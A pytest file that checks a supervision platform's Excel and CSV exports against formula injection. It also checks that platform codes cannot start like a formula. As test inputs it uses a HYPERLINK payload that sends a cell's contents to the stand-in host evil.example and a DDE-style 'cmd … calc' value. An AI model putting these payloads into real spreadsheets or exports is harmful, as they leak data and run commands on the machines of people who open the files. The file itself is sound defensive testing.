"""CSV/formula injection: every export a person opens in Excel or WPS (.xlsx and .csv: findings,
problem ledger, audit sample, notices register, scores league and card, audit log, a rejected
ledger's marked-up workbook) writes text that starts with = + - @ tab or CR so that it is never
evaluated: a string cell with the quote prefix in .xlsx, a leading apostrophe in CSV."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from supervision.models import LedgerSubmission
from tests.conftest import login
from tests.hardening.world import build

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
REPORT_ID = "@SUM(1+1)*cmd|' /C calc'!A0"
PREFIXES = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def world(app, runner, make_platform, make_user, tmp_path):
    return build(app, runner, make_platform, make_user, tmp_path, PAYLOAD, report_id=REPORT_ID)


def _client(app, username: str):
    client = app.test_client()
    assert login(client, username).status_code == 302
    return client


def _xlsx_problems(data: bytes) -> tuple[list[str], int]:
    """(cells that Excel would evaluate, number of formula-like texts seen)."""
    book = load_workbook(io.BytesIO(data))
    bad, seen = [], 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    bad.append(f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}")
                elif isinstance(cell.value, str) and cell.value.startswith(PREFIXES):
                    seen += 1
                    if not cell.quotePrefix:
                        bad.append(f"{sheet.title}!{cell.coordinate} not neutralised: {cell.value!r}")
    return bad, seen


def _csv_problems(data: bytes) -> tuple[list[str], int]:
    text = data.decode("utf-8-sig")
    bad, seen = [], 0
    for n, row in enumerate(csv.reader(io.StringIO(text)), 1):
        for value in row:
            if value.startswith(PREFIXES):
                bad.append(f"line {n}: {value!r}")
            if value.startswith("'") and value[1:].startswith(PREFIXES):
                seen += 1
    return bad, seen


def test_every_export_neutralises_formula_like_text(app, world, session, make_user):
    i = world.ids
    make_user("-A1.cmd", "inspector")  # a user name is allowed to start with "-": its log-in goes to the audit log
    _client(app, "-A1.cmd")
    exports = {
        "insp": ["/findings/export.xlsx", "/problems/export.xlsx", f"/audits/{i['audit']}/export.xlsx",
                 "/notices/export.xlsx", "/scores/export.xlsx?period=2026-09", "/scores.csv?period=2026-09",
                 "/scores/platforms/pa/export.xlsx?period=2026-09"],
        "user_a": ["/findings/export.xlsx", "/problems/export.xlsx", "/scores.csv?period=2026-09"],
        "aud": ["/audit/export.csv"],
    }
    rejected = session.scalar(select(LedgerSubmission.id).where(LedgerSubmission.status == "rejected"))
    exports["user_a"].append(f"/ledgers/{rejected}/errors.xlsx")
    # Where user text is certainly exported, the payload must be there (neutralised).
    carries_payload = {"/findings/export.xlsx", "/problems/export.xlsx", f"/audits/{i['audit']}/export.xlsx",
                       "/notices/export.xlsx", "/audit/export.csv", f"/ledgers/{rejected}/errors.xlsx"}
    failures = []
    for username, urls in exports.items():
        client = _client(app, username)
        for url in urls:
            r = client.get(url)
            assert r.status_code == 200, (username, url, r.status_code)
            bad, seen = (_csv_problems if ".csv" in url else _xlsx_problems)(r.data)
            failures += [f"{username} {url}: {b}" for b in bad]
            if url in carries_payload and not seen:
                failures.append(f"{username} {url}: no formula-like text exported (the probe proves nothing)")
    assert not failures, "\n".join(failures)


@pytest.mark.parametrize("code", ["-A1", "@x", "=1", "+1"])
def test_a_platform_code_cannot_start_like_a_formula(runner, code):
    """Platform codes go into exports unquoted (the scores CSV is a contract): they must not
    start like a formula."""
    from supervision.standard.uscc import check_character

    first17 = "91330100MA2CD0019"
    r = runner.invoke(args=["platform", "add", "--code", code, "--name", "测试平台", "--uscc",
                            first17 + check_character(first17)])
    assert r.exit_code == 2 and "平台简码" in r.output, r.output
